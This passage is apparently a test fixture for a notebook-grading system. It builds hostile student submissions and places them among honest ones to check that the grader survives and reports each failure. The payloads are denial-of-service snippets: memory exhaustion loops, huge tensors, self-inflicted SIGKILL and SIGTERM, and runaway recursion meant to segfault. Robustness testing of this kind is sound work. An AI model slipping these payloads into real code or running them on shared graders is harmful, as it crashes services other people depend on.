     lambda t: _cell(t, "", "torch.zeros(1, dtype=delta.dtype).expand(10**10)"),
     may_earn=BOTH, must_earn=BOTH, says=("large", "elements", "memory", "size", "shape"))  # fmt: skip
_add("ten-mb-string", "message", "returns a 10 MB string",
     lambda t: _cell(t, "", "'x' * 10_000_000"),
     may_earn=BOTH, must_earn=BOTH, says=("str",))  # fmt: skip
_add("hundred-mb-tensor", "message", "returns a 100 MB tensor",
     lambda t: _cell(t, "", "torch.zeros(25_000_000)"),
     may_earn=BOTH, must_earn=BOTH, says=("large", "MB", "shape", "size"))  # fmt: skip
_add("memory-exhaustion", "message", "holds on to 100 MB blocks until memory runs out",
     lambda t: _fn(t, "hold = []\nwhile True:\n    hold.append(torch.ones(25_000_000))\n"),
     may_earn=BOTH, must_earn=BOTH, says=("memory",))  # fmt: skip
_add("sigkill-self", "message", "kills itself with SIGKILL (signal.raise_signal)",
     lambda t: _fn(t, "import signal\nsignal.raise_signal(signal.SIGKILL)\nreturn delta"),
     may_earn=BOTH, must_earn=BOTH, says=("signal", "SIGKILL"))  # fmt: skip
_add("sigterm-self", "message", "kills itself with SIGTERM (signal.raise_signal)",
     lambda t: _fn(t, "import signal\nsignal.raise_signal(signal.SIGTERM)\nreturn delta"),
     may_earn=BOTH, must_earn=BOTH, says=("signal", "SIGTERM"))  # fmt: skip
_add("stack-overflow", "message", "recurses without end in C (a segfault)",
     lambda t: _fn(t, "import sys\nsys.setrecursionlimit(10**7)\n"
                      "def f(n):\n    return f(n + 1) + 1\nreturn f(0)"),
     may_earn=BOTH, must_earn=frozenset({GDP}),
     says=("segmentation", "signal", "crash", "recursion", "stack"))  # fmt: skip

BY_NAME = {a.name: a for a in ATTACKS}
assert len(BY_NAME) == len(ATTACKS), "attack names repeat"


# --------------------------------------------------------------------------- a class of them


def build_class(
    root: Path, attacks: list[Attack], target: Target, honest_between: bool = True
) -> tuple[list[str], dict[str, Attack]]:
    """Write a class under ``root``: honest learners ``uNNN-honest`` and the attackers (their
    names hold ``uNNN``), one numbered folder each, in order; an honest learner between every two
    attackers (or only at the two ends). Return the honest learners' names and the attacks by
    their ``uNNN`` token."""
    honest_names: list[str] = []
    by_token: dict[str, Attack] = {}
    slot = 0

    def place_honest() -> None:
        nonlocal slot
        name = f"u{slot:03d}-honest"
        save(root / f"{slot:03d}" / f"{name}.ipynb", honest())
        honest_names.append(name)
        slot += 1

    place_honest()
    for i, a in enumerate(attacks):
        token = f"u{slot:03d}"
        a.write(root / f"{slot:03d}", f"{token}-{a.name}", target)
        by_token[token] = a
        slot += 1
        if honest_between or i == len(attacks) - 1:
            place_honest()
    return honest_names, by_token


if __name__ == "__main__":  # pragma: no cover
    import sys

    from tests.test_grading_hostile import grade_attacks_alone

    grade_attacks_alone([BY_NAME[n] for n in sys.argv[1:]] or ATTACKS)
